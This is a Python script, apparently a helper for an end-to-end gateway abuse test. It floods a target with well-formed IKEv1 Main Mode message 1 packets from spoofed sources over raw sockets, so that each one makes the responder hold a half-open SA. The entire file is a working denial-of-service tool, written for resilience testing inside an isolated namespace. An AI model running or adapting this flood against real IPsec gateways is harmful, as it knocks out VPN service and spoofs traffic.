#!/usr/bin/env python3
"""Spoofed IKEv1 Main Mode message 1 flood for e2e/netns/abuse-ike.sh (run it inside the
attacker namespace only: it writes raw IPv4 packets with made-up source addresses).

Each packet is a well-formed Main Mode message 1 (RFC 2409 §5; ISAKMP header and SA
payload of RFC 2408 §3.1, §3.4-3.6) with a fresh initiator cookie and one transform the
gateway accepts (AES-128-CBC, SHA-1, pre-shared key, MODP2048), so every one that gets in
costs the responder a half-open SA. Sources cycle through COUNT addresses from a base
(random UDP source ports); the rate is kept by sending a batch every 10 ms. Prints one
line at the end: `sent=N seconds=T pps=R sources=S`.
"""

import argparse
import ipaddress
import os
import signal
import socket
import struct
import time


def transform_attributes():
    # Basic (TV) attributes: type with the high bit set, 16-bit value (RFC 2408 §3.3).
    tv = [
        (1, 7),  # encryption: AES-CBC (RFC 3602)
        (14, 128),  # key length
        (2, 2),  # hash: SHA
        (3, 1),  # authentication: pre-shared key
        (4, 14),  # group: MODP2048 (RFC 3526)
        (11, 1),  # life type: seconds
        (12, 28800),  # life duration
    ]
    return b"".join(struct.pack("!HH", 0x8000 | t, v) for t, v in tv)


def sa_payload():
    attrs = transform_attributes()
    # Transform: next 0, reserved, length, number 1, KEY_IKE, reserved.
    transform = struct.pack("!BBHBBH", 0, 0, 8 + len(attrs), 1, 1, 0) + attrs
    # Proposal: next 0, reserved, length, number 1, PROTO_ISAKMP, SPI size 0, 1 transform.
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transform), 1, 1, 0, 1) + transform
    # SA: next 0, reserved, length, DOI IPSEC, situation SIT_IDENTITY_ONLY.
    body = struct.pack("!II", 1, 1) + proposal
    return struct.pack("!BBH", 0, 0, 4 + len(body)) + body


def message_1(cky_i):
    sa = sa_payload()
    # Header: CKY-I, CKY-R 0, next payload SA (1), version 1.0, Identity Protection (2),
    # flags 0, message ID 0, length.
    return cky_i + bytes(8) + struct.pack("!BBBBII", 1, 0x10, 2, 0, 0, 28 + len(sa)) + sa


def ipv4_udp(src, dst, sport, dport, payload, ident):
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    # Checksum 0: the kernel fills it in for IP_HDRINCL sockets.
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), ident & 0xFFFF, 0, 64, 17, 0, src, dst
    )
    return ip + udp


def main():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--dst", required=True)
    p.add_argument("--port", type=int, default=500)
    p.add_argument("--rate", type=int, default=5000, help="packets per second")
    p.add_argument("--sources", type=int, default=1000)
    p.add_argument("--base", default="198.18.0.1", help="first spoofed source address")
    p.add_argument("--duration", type=float, default=20.0, help="seconds")
    a = p.parse_args()
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))

    base = int(ipaddress.IPv4Address(a.base))
    sources = [ipaddress.IPv4Address(base + i).packed for i in range(a.sources)]
    dst = socket.inet_aton(a.dst)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    tick = 0.01
    per_tick = a.rate * tick
    start = time.monotonic()
    sent = 0
    due = 0.0
    rnd = os.urandom(1 << 16)
    n = 0
    while True:
        now = time.monotonic()
        elapsed = now - start
        if elapsed >= a.duration or stop:
            break
        due = elapsed * a.rate + per_tick
        while sent < due:
            cky = os.urandom(8)
            src = sources[sent % len(sources)]
            sport = 1024 + (rnd[(2 * n) % len(rnd)] << 8 | rnd[(2 * n + 1) % len(rnd)]) % 60000
            n += 1
            pkt = ipv4_udp(src, dst, sport, a.port, message_1(cky), sent)
            try:
                s.sendto(pkt, (a.dst, 0))
            except OSError:
                pass
            sent += 1
        time.sleep(max(0.0, start + (sent / a.rate) - time.monotonic()))
    took = time.monotonic() - start
    print(f"sent={sent} seconds={took:.2f} pps={sent / took:.0f} sources={a.sources}", flush=True)


if __name__ == "__main__":
    main()
